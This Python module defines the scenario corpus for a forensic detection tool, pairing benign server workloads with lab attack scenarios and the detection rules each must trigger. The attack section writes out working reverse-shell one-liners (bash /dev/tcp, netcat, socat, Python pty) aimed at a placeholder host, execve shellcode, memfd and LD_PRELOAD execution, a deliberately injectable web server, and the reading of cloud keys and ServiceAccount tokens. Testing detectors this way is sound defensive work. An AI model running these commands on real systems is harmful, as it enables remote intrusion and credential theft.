"""The findings corpus: one entry per workload captured on the real node (``make corpus``).

Benign scenarios are ordinary production shapes with the states that fool naive rules (an
accepted client on a server, logs piped to ``tee``, a cold bytecode cache, workers that run as
another user, a database session); they expect no finding above ``low``. Attack scenarios are
what an incident responder meets; each says which rules must fire, on which process and with
which path or remote (see :mod:`.model`). To add one, append a ``Scenario``: its container runs
``script`` with bash in the corpus image, ``@HOST@:@PORT@`` is the scenario's listener on the
host, ``@API@`` the API server as the pod sees it.
"""

# ruff: noqa: S108, E501 - the table holds shell scripts and the /tmp paths attackers use

from __future__ import annotations

import struct

from forensic_checkpoint_dev.corpus.model import API, HOST, PORT, Client, Expect, Listener
from forensic_checkpoint_dev.corpus.model import Scenario as S
from forensic_checkpoint_dev.corpus.model import Select as P

#: The namespace the corpus's pods run in (the operator watches it).
NAMESPACE = "corpus"
REMOTE = f"{HOST}:{PORT}"


def _postgres_startup(user: str, database: str) -> str:
    """A protocol-3 StartupMessage (hex): with trust authentication the backend answers
    ReadyForQuery and then sits idle, as a pooled application connection does."""
    body = struct.pack("!I", 196608) + b"".join(
        k.encode() + b"\0" + v.encode() + b"\0" for k, v in (("user", user), ("database", database))
    )
    body += b"\0"
    return (struct.pack("!I", len(body) + 4) + body).hex()


HTTP_GET = "GET / HTTP/1.1\r\nHost: corpus\r\nConnection: keep-alive\r\n\r\n"
#: the start of a request, never finished: the worker that accepted it waits on the client
HTTP_SLOW = "GET /slow HTTP/1.1\r\nHost: corpus\r\n"
BASH_REVERSE_SHELL = f"bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1"
SHELLCODE = "31c048bbd19d9691d08c97ff48f7db53545f995257545eb03b0f05"  # execve("/bin//sh"), x86-64


def reverse_shell(  # noqa: PLR0917 - the columns of the reverse-shell rows, in order
    name: str, summary: str, command: str, port: int, shell: P, allow: tuple[str, ...] = ()
) -> S:
    """A shell connected back to a listener on the host, which sends it `id`: ``command`` runs
    beside the container's ``sleep infinity``. The shell's history is an allowed side effect."""
    return S(
        name,
        "attack",
        summary,
        script=f"sleep infinity & {command}; wait",
        ready="true",
        listener=Listener(port, send="id\n"),
        expect=(Expect("reverse-shell", shell, remote=REMOTE),),
        allow=("shell-history", *allow),
    )


BENIGN = (
    S(
        "nginx-keepalive",
        "benign",
        "nginx master + 2 workers as www-data, one keep-alive client from the host",
        script="""cat > /tmp/nginx.conf <<'EOF'
user www-data;
worker_processes 2;
pid /run/nginx.pid;
events { worker_connections 64; }
http {
  access_log /dev/stdout;
  error_log stderr;
  keepalive_timeout 600s;
  server { listen 80; location / { return 200 "ok\\n"; } }
}
EOF
exec nginx -c /tmp/nginx.conf -g 'daemon off;'""",
        ready="curl -fsS http://127.0.0.1/",
        clients=(Client(80, HTTP_GET),),
    ),
    S(
        "redis",
        "benign",
        "redis-server as user redis, one client connection from the host",
        script="exec setpriv --reuid redis --regid redis --init-groups redis-server "
        "--bind 0.0.0.0 --protected-mode no --save '' --appendonly no --dir /tmp",
        ready="redis-cli ping 2>/dev/null | grep -q PONG || "
        "printf 'PING\\r\\n' | nc -q1 127.0.0.1 6379 | grep -q PONG",
        clients=(Client(6379, "PING\r\n"),),
    ),
    S(
        "postgres-session",
        "benign",
        "postgres 15 (data on an emptyDir) with an idle client session from the host",
        script="""set -e
install -d -o postgres -g postgres /var/run/postgresql /var/lib/postgresql/data/pg
setpriv --reuid postgres --regid postgres --init-groups \
  /usr/lib/postgresql/15/bin/initdb -D /var/lib/postgresql/data/pg -A trust --no-sync >/dev/null
echo 'host all all 0.0.0.0/0 trust' >> /var/lib/postgresql/data/pg/pg_hba.conf
exec setpriv --reuid postgres --regid postgres --init-groups \
  /usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/data/pg -c listen_addresses='*'""",
        ready="pg_isready -q -h 127.0.0.1",
        volume="/var/lib/postgresql/data",
        clients=(Client(5432, send_hex=_postgres_startup("postgres", "postgres")),),
    ),
    S(
        "python-gunicorn-tee",
        "benign",
        "gunicorn (2 workers) logging through `2>&1 | tee`, cold bytecode cache, a slow client",
        script="""mkdir -p /srv/app && cat > /srv/app/app.py <<'EOF'
def app(environ, start_response):
    body = b"hello\\n"
    start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
    return [body]
EOF
cd /srv/app
gunicorn --workers 2 --timeout 600 --bind 0.0.0.0:8000 --access-logfile - app:app 2>&1 \
  | tee /srv/app/app.log""",
        ready="curl -fsS http://127.0.0.1:8000/",
        clients=(Client(8000, HTTP_SLOW),),
    ),
    S(
        "jvm-httpserver",
        "benign",
        "Debian's openjdk 17 JRE running a JDK HttpServer (JIT), one keep-alive client",
        script="""mkdir -p /srv && cat > /srv/Server.java <<'EOF'
import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
public class Server {
    public static void main(String[] args) throws Exception {
        HttpServer server = HttpServer.create(new InetSocketAddress(8080), 16);
        server.createContext("/", exchange -> {
            byte[] body = "ok\\n".getBytes();
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
    }
}
EOF
exec java -Xmx64m -Dsun.net.httpserver.idleInterval=600 /srv/Server.java""",
        ready="curl -fsS http://127.0.0.1:8080/",
        clients=(Client(8080, HTTP_GET),),
    ),
    S(
        "nodejs-http",
        "benign",
        "Node.js 18 HTTP server (JIT), one keep-alive client",
        script="""mkdir -p /srv && cat > /srv/server.js <<'EOF'
const http = require("http");
const server = http.createServer((req, res) => res.end("ok\\n"));
server.keepAliveTimeout = 600000;
server.listen(3000);
EOF
exec node /srv/server.js""",
        ready="curl -fsS http://127.0.0.1:3000/",
        clients=(Client(3000, HTTP_GET),),
    ),
    S(
        "sidecar-shared-volume",
        "benign",
        "a writer and a `tail -F` sidecar sharing an emptyDir",
        script="while true; do date -Is >> /shared/app.log; sleep 2; done",
        sidecar="until [ -e /shared/app.log ]; do sleep 0.5; done; exec tail -F /shared/app.log",
        ready="test -s /shared/app.log",
    ),
    S(
        "cron-loop",
        "benign",
        "a cron-style loop running a job every 5 s",
        script="""while true; do
  { date -Is; df -h / | tail -1; ps -e | wc -l; } >> /var/log/job.log
  sleep 5
done""",
        ready="test -s /var/log/job.log",
    ),
    S(
        "apt-get-at-start",
        "benign",
        "apt-get update + install at start (offline: the image's file: apt source), then serve",
        script="""apt-get update -qq >/var/log/apt-start.log 2>&1
apt-get install -y -qq tree >>/var/log/apt-start.log 2>&1
touch /tmp/apt-done
exec sleep infinity""",
        ready="test -e /tmp/apt-done",
    ),
)

ATTACKS = (
    reverse_shell(
        "revshell-bash-devtcp",
        "bash -i with its stdio on /dev/tcp to a listener",
        BASH_REVERSE_SHELL,
        4441,
        P("bash", "^bash -i$"),
    ),
    reverse_shell(
        "revshell-mkfifo-nc",
        "sh -i between a fifo and netcat-openbsd (the classic relay)",
        f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {HOST} {PORT} > /tmp/f",
        4442,
        P("sh", "^sh -i$"),
        allow=("network-tool", "stdio-socket"),
    ),
    reverse_shell(
        "revshell-socat-exec",
        "socat connecting back and running bash on a pty",
        f"socat TCP:{HOST}:{PORT} EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
        4443,
        P("bash", "^bash -li$"),
        allow=("network-tool", "stdio-socket"),
    ),
    reverse_shell(
        "revshell-python-pty",
        "python dup2s a socket onto its stdio and pty.spawn()s bash",
        "python3 -c 'import socket,os,pty;s=socket.socket();"
        f's.connect(("{HOST}",{PORT}));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
        'pty.spawn("/bin/bash")\'',
        4444,
        P("bash", "^/bin/bash$"),
        allow=("stdio-socket",),
    ),
    reverse_shell(
        "revshell-busybox-nc",
        "busybox nc -e /bin/sh (nc execs the shell on the socket)",
        f"busybox nc {HOST} {PORT} -e /bin/sh",
        4445,
        P("sh", "^/bin/sh$"),
        allow=("network-tool",),
    ),
    S(
        "webserver-spawned-shell",
        "attack",
        "a command injection makes a Python web server run sh -c",
        script="""mkdir -p /srv && cat > /srv/vuln.py <<'EOF'
import http.server, os, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        out = os.popen("ping -c1 " + query.get("host", ["127.0.0.1"])[0]).read()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out.encode())
http.server.ThreadingHTTPServer(("", 8080), Handler).serve_forever()
EOF
exec python3 /srv/vuln.py""",
        ready="python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 8080))'",
        clients=(
            Client(8080, "GET /?host=127.0.0.1%3Bid%3Bsleep%203600 HTTP/1.1\r\nHost: x\r\n\r\n"),
        ),
        expect=(Expect("shell-under-server", P("sh", "ping -c1 127.0.0.1;id;sleep 3600")),),
        allow=("command-injection-in-log",),
        settle=2.0,
    ),
    S(
        "dropped-binaries",
        "attack",
        "binaries dropped and run from /tmp, /dev/shm and a hidden dir as [kworker/0:1H]",
        script="""cp /usr/bin/sleep /tmp/updater && /tmp/updater 3600 &
cp /usr/bin/sleep /dev/shm/shm-helper && /dev/shm/shm-helper 3601 &
mkdir -p /var/tmp/.font-unix && cp /usr/bin/sleep /var/tmp/.font-unix/kworker &&
  (exec -a '[kworker/0:1H]' /var/tmp/.font-unix/kworker 3602) &
exec sleep infinity""",
        ready="true",
        expect=(
            Expect("drop-and-execute", P(argv="^/tmp/updater 3600$"), path="/tmp/updater"),
            Expect(
                "drop-and-execute|exec-from-temp",
                P(argv="^/dev/shm/shm-helper 3601$"),
                path="/dev/shm/shm-helper",
            ),
            Expect("drop-and-execute", P("kworker"), path="/var/tmp/.font-unix/kworker"),
            Expect("kernel-thread-masquerade", P("kworker"), path="/var/tmp/.font-unix/kworker"),
        ),
        allow=("exec-from-temp", "dropped-executable"),
        shm=True,
    ),
    S(
        "memfd-exec",
        "attack",
        "an ELF written into a memfd and executed from it as [kworker/u4:2]",
        script='python3 -c \'import os;fd=os.memfd_create("kworker",0);'
        'os.write(fd,open("/usr/bin/sleep","rb").read());'
        'os.execv("/proc/self/fd/%d"%fd,["[kworker/u4:2]","3600"])\' &\n'
        "exec sleep infinity",
        ready="true",
        expect=(
            Expect("memfd-exec", P(argv=r"^\[kworker/u4:2\] 3600$"), path="memfd:kworker"),
            Expect("kernel-thread-masquerade", P(argv=r"^\[kworker/u4:2\] 3600$")),
        ),
        allow=("memfd-exec-mapping",),
    ),
    S(
        "ld-preload-dropped-lib",
        "attack",
        "a library dropped into a hidden dir and preloaded into a process",
        script="""mkdir -p /tmp/.lib && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.lib/libsysd.so
LD_PRELOAD=/tmp/.lib/libsysd.so sleep 3600 &
exec sleep infinity""",
        ready="true",
        expect=(
            Expect("ld-preload", P("sleep", "^sleep 3600$"), path="/tmp/.lib/libsysd.so"),
            Expect(
                "dropped-library-loaded", P("sleep", "^sleep 3600$"), path="/tmp/.lib/libsysd.so"
            ),
        ),
        allow=("dropped-executable",),
    ),
    S(
        "rwx-shellcode",
        "attack",
        "an anonymous RWX mapping holding execve(/bin/sh) shellcode",
        script="python3 -c 'import mmap,time;"
        "m=mmap.mmap(-1,16384,flags=mmap.MAP_PRIVATE|mmap.MAP_ANONYMOUS,"
        "prot=mmap.PROT_READ|mmap.PROT_WRITE|mmap.PROT_EXEC);"
        f'm.write(bytes.fromhex("{SHELLCODE}"));time.sleep(9e9)\' &\n'
        "exec sleep infinity",
        ready="true",
        expect=(Expect("rwx-mapping", P("python3", "mmap.PROT_EXEC")),),
        allow=("anonymous-exec-mapping",),
    ),
    S(
        "stratum-miner",
        "attack",
        "a miner-like process subscribed to a (local, fake) stratum pool on port 3333",
        script="""mkdir -p /tmp/.m && cat > /tmp/.m/x.py <<'EOF'
import json, socket, sys, time
host, port = sys.argv[2].split("//")[1].rsplit(":", 1)
s = socket.create_connection((host, int(port)))
f = s.makefile("rw")
for i, (m, p) in enumerate([("mining.subscribe", ["xmrig/6.21"]), ("mining.authorize", [sys.argv[4], "x"])]):
    f.write(json.dumps({"id": i + 1, "method": m, "params": p}) + "\\n"); f.flush(); f.readline()
time.sleep(9e9)
EOF
python3 /tmp/.m/x.py -o stratum+tcp://@HOST@:@PORT@ \
  -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A &
exec sleep infinity""",
        ready="true",
        listener=Listener(3333, kind="stratum"),
        expect=(
            Expect("miner-pool-connection", P("python3", "stratum"), remote=REMOTE),
            Expect("miner-pool-string", P("python3", "stratum")),
        ),
    ),
    S(
        "credentials-in-env",
        "attack",
        "AWS keys and the ServiceAccount token read into an attacker's environment",
        script="""mkdir -p /root/.aws && printf '[default]\\naws_access_key_id = %s\\naws_secret_access_key = %s\\n' \
  AKIAQ3EGRIPZ5EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY > /root/.aws/credentials
(export AWS_ACCESS_KEY_ID=$(awk '/aws_access_key_id/ {print $3}' /root/.aws/credentials)
 export AWS_SECRET_ACCESS_KEY=$(awk '/aws_secret_access_key/ {print $3}' /root/.aws/credentials)
 export KUBE_TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
 exec sleep 3601) &
exec sleep infinity""",
        ready="true",
        expect=(
            Expect("aws-access-key", P("sleep", "^sleep 3601$")),
            Expect("serviceaccount-token", P("sleep", "^sleep 3601$")),
        ),
        allow=("secret-env",),
    ),
    S(
        "api-server-from-pod",
        "attack",
        "curl watching pods on the API server with the pod's ServiceAccount token",
        script="""SA=/var/run/secrets/kubernetes.io/serviceaccount; T=$(cat $SA/token); NS=$(cat $SA/namespace)
curl -sk -N -H "Authorization: Bearer $T" \
  "https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/namespaces/$NS/pods?watch=1" \
  > /tmp/.w 2>&1 &
exec sleep infinity""",
        ready="grep -q ADDED /tmp/.w",
        api_access=True,
        expect=(
            Expect("api-server-from-tool", P("curl"), remote=API),
            Expect("network-tool", P("curl")),
        ),
        allow=("serviceaccount-token", "jwt"),
    ),
    S(
        "history-evasion",
        "attack",
        "a reverse shell started with HISTFILE=/dev/null that runs `unset HISTFILE`",
        script=f"export HISTFILE=/dev/null; sleep infinity & {BASH_REVERSE_SHELL}; wait",
        ready="true",
        listener=Listener(4446, send="unset HISTFILE\nid\nuname -a\n"),
        expect=(
            Expect("history-evasion-env", P("bash", "^bash -i$")),
            Expect("shell-history", P("bash", "^bash -i$")),
            Expect("reverse-shell", P("bash", "^bash -i$"), remote=REMOTE),
        ),
    ),
)

SCENARIOS: tuple[S, ...] = BENIGN + ATTACKS
#: The slice the real-node CI runs on every submission (tests/realnode/test_corpus.py).
SLICE = ("nginx-keepalive", "python-gunicorn-tee", "redis", "revshell-bash-devtcp",
         "memfd-exec", "ld-preload-dropped-lib")  # fmt: skip


def by_name(names: list[str] | tuple[str, ...] | None = None) -> list[S]:
    """The scenarios named (all when None), in table order; an unknown name is an error."""
    if not names:
        return list(SCENARIOS)
    known = {s.name: s for s in SCENARIOS}
    unknown = [n for n in names if n not in known]
    if unknown:
        raise KeyError(f"unknown scenario(s) {', '.join(unknown)}; known: {', '.join(known)}")
    return [s for s in SCENARIOS if s.name in names]
